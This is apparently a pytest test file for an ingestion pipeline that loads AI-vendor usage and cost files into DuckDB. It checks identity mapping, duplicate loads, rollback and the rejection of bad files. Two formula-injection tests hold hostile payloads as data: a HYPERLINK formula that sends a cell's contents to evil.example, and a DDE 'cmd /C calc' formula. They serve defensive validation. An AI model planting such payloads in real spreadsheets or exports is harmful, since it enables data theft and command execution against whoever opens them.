"""Incremental ingestion on a tiny hand-made database: vendor files load with identities mapped,
the same file twice adds nothing, rollback removes exactly one load, and every kind of bad file
gets a clear message and leaves the database exactly as it was."""

from __future__ import annotations

import json
import os
import time
from datetime import date

import duckdb
import pytest

from etl.adapters.detect import InputFile, parse
from etl.ingest import cli_load, ingest_files, load_history, rebuild_vendor_marts, rollback_last_load
from tests.ingest_helpers import FIXTURES, build_tiny_db, db_state
from workforce import identity

TODAY = date(2026, 11, 23)


@pytest.fixture
def db(tmp_path):
    return build_tiny_db(tmp_path / "tiny.duckdb")


@pytest.fixture
def con(db):
    con = duckdb.connect(str(db))
    yield con
    con.close()


def _load(con, *names, **kwargs):
    return ingest_files([FIXTURES / n for n in names], con, user="admin", today=TODAY, **kwargs)


def _usage(con, where="true"):
    return con.execute(f"SELECT count(*), coalesce(sum(input_tokens + output_tokens + cache_read_tokens "
                       f"+ cache_write_tokens), 0) FROM stg_vendor_usage WHERE {where}").fetchall()[0]


def test_vendor_files_load_with_emails_mapped_and_the_rest_kept_unmapped(con):
    report = _load(con, "claude_code_analytics.json", "litellm_daily_user_spend.csv")
    assert report.status == "loaded", report.problems
    assert report.rows_added == 4 + 2 + 3  # claude code usage + outcomes, litellm daily
    # emails matched employees by themselves, in any case
    mapped = dict(con.execute("SELECT identity, any_value(employee_id) FROM stg_vendor_usage GROUP BY 1").fetchall())
    assert mapped == {"ana.lima@example.com": "E1", "bo.chen@example.com": "E2", "ci-bot": None, "u-777": None}
    outcomes = con.execute("SELECT employee_id, changes_landed FROM stg_vendor_outcomes "
                           "WHERE employee_id IS NOT NULL").fetchall()
    assert outcomes == [("E1", 3)]
    # unmapped usage is kept and reported: ci-bot (2,100 tokens, $0.90 reported) and u-777 (330 tokens, $0.0007)
    assert report.unmapped.identities == 2 and report.unmapped.usage_rows == 2
    assert report.unmapped.total_tokens == 2100 + 330
    assert report.unmapped.cost_usd == pytest.approx(0.9007)
    history = load_history(con)
    assert list(history["status"]) == ["loaded"] and history["rows_added"].iloc[0] == 9
    assert "claude_code_analytics.json" in history["files"].iloc[0]
    assert con.execute("SELECT value FROM app_meta WHERE key = 'data_version'").fetchall()[0][0] != "v0"


def test_unmapped_cost_is_tokens_times_list_price_when_the_source_has_no_cost(con):
    _load(con, "openai_usage_completions.json")
    frame = identity.unmapped_usage(con).set_index("identity")
    # key_svc: 4,000 uncached in × $0.40 + 800 out × $1.60 per million
    assert frame.loc["key_svc", "cost_usd"] == pytest.approx((4000 * 0.4 + 800 * 1.6) / 1e6)
    # user-abc: 4,000 in, 1,600 out, 8,000 cached read × $0.50 over two days
    assert frame.loc["user-abc", "cost_usd"] == pytest.approx((4000 * 2 + 1600 * 8 + 8000 * 0.5) / 1e6)
    assert frame.loc["user-abc", "total_tokens"] == 4000 + 1600 + 8000


def test_identity_map_attributes_usage_and_the_mart_follows_org_moves(con):
    _load(con, "openai_usage_completions.json")
    identity.set_mapping(con, "openai:user_id", "user-abc", "E1", user="admin")
    identity.apply_mapping(con)
    rebuild_vendor_marts(con)
    rows = con.execute("SELECT usage_date, employee_id, org, input_tokens, cache_read_tokens, requests, cost_source "
                       "FROM mart_vendor_usage_daily ORDER BY usage_date").fetchall()
    assert rows == [
        (date(2026, 10, 5), "E1", "Applied AI", 4000, 6000, 12, "list_price"),
        (date(2026, 10, 6), "E1", "Reality Labs", 0, 2000, 3, "list_price"),  # moved that day
    ]
    assert set(identity.unmapped_usage(con)["identity"]) == {"key_svc"}
    with pytest.raises(identity.IdentityError, match="no employee"):
        identity.set_mapping(con, "openai:user_id", "user-x", "E404", user="admin")


def test_replace_map_is_all_or_nothing(con):
    import pandas as pd

    identity.set_mapping(con, "github:user_login", "bo-chen", "E2", user="admin")
    bad = pd.DataFrame([{"identity_kind": "github:user_login", "identity": "bo-chen", "employee_id": "E3"},
                        {"identity_kind": "openai:user_id", "identity": "user-abc", "employee_id": "NOPE"}])
    with pytest.raises(identity.IdentityError):
        identity.replace_map(con, bad, user="admin")
    assert identity.identity_map(con)[["identity", "employee_id"]].values.tolist() == [["bo-chen", "E2"]]
    good = pd.DataFrame([{"identity_kind": "openai:user_id", "identity": "user-abc", "employee_id": "E3"}])
    assert identity.replace_map(con, good, user="admin") == 2  # one removed, one added
    assert identity.identity_map(con)[["identity", "employee_id"]].values.tolist() == [["user-abc", "E3"]]


def test_the_same_file_twice_adds_nothing(con):
    first = _load(con, "litellm_spend_logs.csv")
    before = db_state(con)
    second = _load(con, "litellm_spend_logs.csv")
    assert second.status == "nothing_to_load"
    assert second.files[0].status == "already_loaded" and first.load_id in second.files[0].note
    assert db_state(con) == before


def test_the_same_usage_in_a_different_file_is_refused_as_overlap(con, tmp_path):
    _load(con, "anthropic_usage_report.json")
    before = db_state(con)
    reformatted = tmp_path / "usage_again.json"
    reformatted.write_text(json.dumps(json.loads((FIXTURES / "anthropic_usage_report.json").read_text()), indent=1))
    report = ingest_files([reformatted], con, user="admin", today=TODAY)
    assert report.status == "rejected"
    assert {p.rule.split(":")[0] for p in report.problems} == {"already loaded"}
    assert db_state(con) == before


def test_rollback_removes_exactly_the_last_load(con):
    _load(con, "claude_code_analytics.json")
    after_first = db_state(con)
    second = _load(con, "copilot_user_usage.ndjson", "anthropic_cost_report.json")
    assert second.rows_added == 2 + 2 + 3  # Copilot: 2 usage rows and 2 outcome rows (suggestions)
    result = rollback_last_load(con, "admin")
    assert result.ok and result.rows_removed == 7 and result.load_id == second.load_id
    state = db_state(con)
    for table in ("stg_vendor_usage", "stg_vendor_outcomes", "stg_vendor_cost"):
        assert state[table] == after_first[table]
    assert list(load_history(con)["status"]) == ["rolled_back", "loaded"]
    # a rolled-back file may be loaded again
    assert _load(con, "copilot_user_usage.ndjson").status == "loaded"
    assert rollback_last_load(con, "admin").ok and rollback_last_load(con, "admin").ok
    assert not rollback_last_load(con, "admin").ok  # nothing left in effect
    assert _usage(con) == (0, 0)


def test_cost_report_cents_are_stored_as_usd(con):
    _load(con, "anthropic_cost_report.json")
    total = con.execute("SELECT sum(amount_usd) FROM stg_vendor_cost").fetchall()[0][0]
    assert total == pytest.approx(26.239567, abs=1e-9)


def test_lone_contract_token_usage_is_validated_and_appended(con, tmp_path):
    good = tmp_path / "token_usage.csv"
    good.write_text("usage_date,employee_id,tool,vendor,model,input_tokens,output_tokens,requests,cost_usd\n"
                    "2026-10-02,E1,chat,openai,gpt-4.1,100,20,2,0.5\n"
                    "2026-10-02,E2,chat,openai,gpt-4.1,50,10,1,\n")
    report = ingest_files([good], con, user="admin", today=TODAY)
    assert report.status == "loaded", report.problems
    assert con.execute("SELECT employee_id, cost_usd FROM stg_vendor_usage ORDER BY 1").fetchall() == [
        ("E1", 0.5), ("E2", None)]
    bad = tmp_path / "token_usage_more.csv"
    bad.write_text("usage_date,employee_id,tool,vendor,model,input_tokens,output_tokens,requests\n"
                   "2026-10-03,E1,chat,openai,gpt-4.1,-5,20,2\n"
                   "2026-10-03,E9,chat,openai,gpt-4.1,1,1,1\n"
                   "2026-10-01,E3,chat,openai,gpt-4.1,1,1,1\n")
    before = db_state(con)
    report = ingest_files([bad], con, user="admin", today=TODAY)
    assert report.status == "rejected"
    found = {(p.row, p.column) for p in report.problems}
    assert (2, "input_tokens") in found  # line 2 of the file (header is line 1)
    assert db_state(con) == before


def test_contract_rows_already_in_the_snapshot_are_refused(con, tmp_path):
    dup = tmp_path / "token_usage.csv"
    dup.write_text("usage_date,employee_id,tool,vendor,model,input_tokens,output_tokens,requests\n"
                   "2026-10-01,E3,chat,openai,gpt-4.1,10,5,1\n")
    report = ingest_files([dup], con, user="admin", today=TODAY)
    assert report.status == "rejected"
    assert report.problems[0].row == 2 and "snapshot" in report.problems[0].rule


# --- bad files: a clear message and nothing changed ----------------------------------------------


def _rejected(con, files, **kwargs):
    before = db_state(con)
    report = ingest_files(files, con, user="admin", today=TODAY, **kwargs)
    assert report.status == "rejected"
    assert db_state(con) == before
    return report


def test_truncated_json(con, tmp_path):
    text = (FIXTURES / "openai_usage_completions.json").read_text()
    cut = tmp_path / "usage.json"
    cut.write_text(text[: len(text) // 2])
    report = _rejected(con, [cut])
    (problem,) = report.problems
    assert problem.file == "usage.json" and "truncated" in problem.rule and problem.row > 1


def test_truncated_ndjson_names_the_line(con, tmp_path):
    lines = (FIXTURES / "copilot_user_usage.ndjson").read_text().splitlines()
    cut = tmp_path / "copilot.ndjson"
    cut.write_text(lines[0] + "\n" + lines[1][:40] + "\n")
    (problem,) = _rejected(con, [cut]).problems
    assert problem.row == 2 and "truncated" in problem.rule


def test_wrong_encoding(con, tmp_path):
    latin = tmp_path / "spend.csv"
    text = (FIXTURES / "litellm_spend_logs.csv").read_text().replace("ana.lima@example.com", "anã.lima@example.com")
    latin.write_bytes(text.encode("cp1252"))
    (problem,) = _rejected(con, [latin]).problems
    assert "not UTF-8" in problem.rule and problem.row == 2


def test_a_200_mb_file_is_refused_before_it_is_read(con, tmp_path, monkeypatch):
    big = tmp_path / "huge.ndjson"
    with open(big, "wb") as handle:  # sparse: 200 MB on paper, instant to make
        handle.truncate(200 * 1024 * 1024)
    monkeypatch.setattr(InputFile, "read", lambda self: pytest.fail("a file over the limit was read"))
    started = time.perf_counter()
    (problem,) = _rejected(con, [big]).problems
    assert "200.0 MB, over the 100.0 MB limit" in problem.rule
    assert time.perf_counter() - started < 2


def test_the_size_limit_is_configurable(con, tmp_path, monkeypatch):
    monkeypatch.setenv("WORKFORCE_MAX_UPLOAD_MB", "0.001")  # ~1 KB
    (problem,) = _rejected(con, [FIXTURES / "claude_code_analytics.json"]).problems
    assert "over the 0.0 MB limit" in problem.rule or "limit" in problem.rule
    assert parse(InputFile("x.csv", b"a\n1\n"), limit=1)[1][0].column == "(file)"


def test_formula_injection_cell_in_a_csv(con, tmp_path):
    text = (FIXTURES / "litellm_spend_logs.csv").read_text().replace(
        "u-777", '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"')
    bad = tmp_path / "spend.csv"
    bad.write_text(text)
    problems = _rejected(con, [bad]).problems
    assert [(p.row, p.column) for p in problems] == [(4, "user")]
    assert "formula injection" in problems[0].rule and problems[0].value.startswith("=HYPERLINK(")


def test_formula_injection_in_a_json_value(con, tmp_path):
    page = json.loads((FIXTURES / "openai_usage_completions.json").read_text())
    page["data"][0]["results"][0]["user_id"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    bad = tmp_path / "usage.json"
    bad.write_text(json.dumps(page))
    problems = _rejected(con, [bad]).problems
    assert problems[0].column == "identity" and "formula injection" in problems[0].rule


def test_negative_numbers_are_not_mistaken_for_formulas(con, tmp_path):
    bad = tmp_path / "token_usage.csv"
    bad.write_text("usage_date,employee_id,tool,vendor,model,input_tokens,output_tokens,requests\n"
                   "2026-10-03,E1,chat,openai,gpt-4.1,-5,20,2\n")
    problems = _rejected(con, [bad]).problems
    assert all("formula" not in p.rule for p in problems)


def test_dates_in_the_future(con, tmp_path):
    page = json.loads((FIXTURES / "anthropic_usage_report.json").read_text())
    page["data"][2]["starting_at"] = "2027-01-15T13:00:00Z"
    bad = tmp_path / "usage.json"
    bad.write_text(json.dumps(page))
    problems = _rejected(con, [bad]).problems
    assert [(p.column, p.value) for p in problems] == [("usage_date", "2027-01-15 (apikey_01A)")]
    assert "future" in problems[0].rule


def test_one_bad_file_rejects_the_whole_upload(con, tmp_path):
    cut = tmp_path / "cut.json"
    cut.write_text('{"data": [')
    report = _rejected(con, [FIXTURES / "claude_code_analytics.json", cut])
    assert [f.status for f in report.files] == ["rejected", "rejected"] or report.files[0].note


def test_unknown_files_are_named(con, tmp_path):
    odd = tmp_path / "notes.csv"
    odd.write_text("a,b\n1,2\n")
    (problem,) = _rejected(con, [odd]).problems
    assert "not recognised" in problem.rule and "a, b" in problem.rule


def test_dry_run_validates_without_writing(con):
    before = db_state(con)
    report = _load(con, "claude_code_analytics.json", dry_run=True)
    assert report.status == "validated" and report.files[0].rows_to_add == 6
    assert report.files[0].preview is not None and len(report.files[0].preview) == 4
    assert db_state(con) == before


def test_cli_loads_a_vendor_file_and_refuses_a_bad_one(db, tmp_path, capsys):
    assert cli_load(FIXTURES / "openai_usage_completions.json", db, quiet=True, user="ops") == 0
    assert "rows added" in capsys.readouterr().out
    cut = tmp_path / "cut.json"
    cut.write_text('{"data": [')
    assert cli_load(cut, db, quiet=True) == 1
    assert "truncated" in capsys.readouterr().err
    con = duckdb.connect(str(db))
    assert con.execute("SELECT loaded_by, status FROM app_load_history").fetchall() == [("ops", "loaded")]
    con.close()
    assert os.path.exists(db)


# --- with the real loader: a full contract upload is a snapshot ----------------------------------


@pytest.fixture(scope="module")
def generated(tmp_path_factory):
    from etl.generate import generate

    folder = tmp_path_factory.mktemp("generated")
    generate(folder, employees=100, months=3, seed=3, fmt="csv", end_date=date(2026, 10, 31))
    return folder


def test_a_full_contract_upload_is_a_snapshot_through_the_loader(generated, tmp_path):
    db = tmp_path / "w.duckdb"
    files = sorted(generated.iterdir())
    report = ingest_files(files, db, user="admin", today=TODAY, key_path=tmp_path / "k.key")
    assert report.status == "snapshot", report.problems
    con = duckdb.connect(str(db))
    try:
        history = load_history(con)
        assert list(history["status"]) == ["snapshot"]
        tokens_rows = con.execute("SELECT count(*) FROM stg_token_usage").fetchall()[0][0]
        listed = con.execute("SELECT rows_added FROM app_load_files WHERE source = 'token_usage'").fetchall()
        assert listed == [(tokens_rows,)] and tokens_rows > 0
        # a snapshot is not undone here: the message says how to go back
        result = rollback_last_load(con, "admin")
        assert not result.ok and "python -m etl load" in result.message
        # vendor usage of a real employee maps by email and reaches the vendor mart with their org
        email, employee, org = con.execute(
            "SELECT e.email, e.employee_id, m.org FROM stg_employees e JOIN mart_employee_month m USING (employee_id) "
            "WHERE m.month = DATE '2026-10-01' ORDER BY e.employee_id LIMIT 1").fetchall()[0]
        page = json.loads((FIXTURES / "claude_code_analytics.json").read_text())
        page["data"][0]["actor"]["email_address"] = email.upper()
        vendor = tmp_path / "cc.json"
        vendor.write_text(json.dumps(page))
        loaded = ingest_files([vendor], con, user="admin", today=TODAY)
        assert loaded.status == "loaded", loaded.problems
        rows = con.execute("SELECT employee_id, org, sum(total_tokens) FROM mart_vendor_usage_daily GROUP BY ALL"
                           ).fetchall()
        assert rows == [(employee, org, 10000 + 2000 + 50000 + 4000 + 500 + 100)]
        # the same contract files again are already loaded: only the new vendor file loads
        again = ingest_files([*files, FIXTURES / "copilot_user_usage.ndjson"], con, user="admin", today=TODAY)
        assert again.status == "loaded" and again.rows_added == 2 + 2  # usage and outcome rows
        assert {f.status for f in again.files} == {"already_loaded", "loaded"}
    finally:
        con.close()
    # into a fresh database, a snapshot mixed with vendor files is refused as a whole
    fresh = tmp_path / "fresh.duckdb"
    mixed = ingest_files([*files, FIXTURES / "copilot_user_usage.ndjson"], fresh, user="admin", today=TODAY)
    assert mixed.status == "rejected" and "snapshot must be loaded on its own" in mixed.problems[0].rule


def test_cli_records_a_snapshot_folder_in_the_history(generated, tmp_path):
    db = tmp_path / "w.duckdb"
    assert cli_load(generated, db, tmp_path / "k.key", quiet=True, user="ops", print_fn=lambda _s: None) == 0
    con = duckdb.connect(str(db))
    try:
        assert con.execute("SELECT loaded_by, status FROM app_load_history").fetchall() == [("ops", "snapshot")]
        assert con.execute("SELECT count(*) FROM app_load_files").fetchall()[0][0] == 11
    finally:
        con.close()


def test_lone_contract_outcomes_append_and_refuse_what_the_snapshot_holds(con, tmp_path):
    con.execute("CREATE TABLE stg_outcomes (week_start DATE, employee_id VARCHAR, changes_landed BIGINT, "
                "agent_assisted_changes BIGINT, reviews_done BIGINT)")
    con.execute("INSERT INTO stg_outcomes VALUES ('2026-10-05', 'E1', 3, 1, 2)")
    good = tmp_path / "outcomes.csv"
    good.write_text("week_start,employee_id,changes_landed,agent_assisted_changes\n2026-10-12,E1,4,2\n2026-10-12,E2,1,\n")
    assert ingest_files([good], con, user="admin", today=TODAY).status == "loaded"
    assert con.execute("SELECT employee_id, changes_landed FROM stg_vendor_outcomes ORDER BY 1").fetchall() == [
        ("E1", 4), ("E2", 1)]
    monday = tmp_path / "outcomes_tuesday.csv"
    monday.write_text("week_start,employee_id,changes_landed\n2026-10-19,E2,1\n2026-10-20,E3,1\n")
    (problem,) = _rejected(con, [monday]).problems
    assert (problem.row, problem.column, problem.rule) == (3, "week_start", "is_monday")
    again = tmp_path / "outcomes_again.csv"
    again.write_text("week_start,employee_id,changes_landed\n2026-10-19,E2,1\n2026-10-05,E1,3\n")
    (problem,) = _rejected(con, [again]).problems
    assert (problem.row, problem.value) == (3, "2026-10-05 E1") and "stg_outcomes" in problem.rule
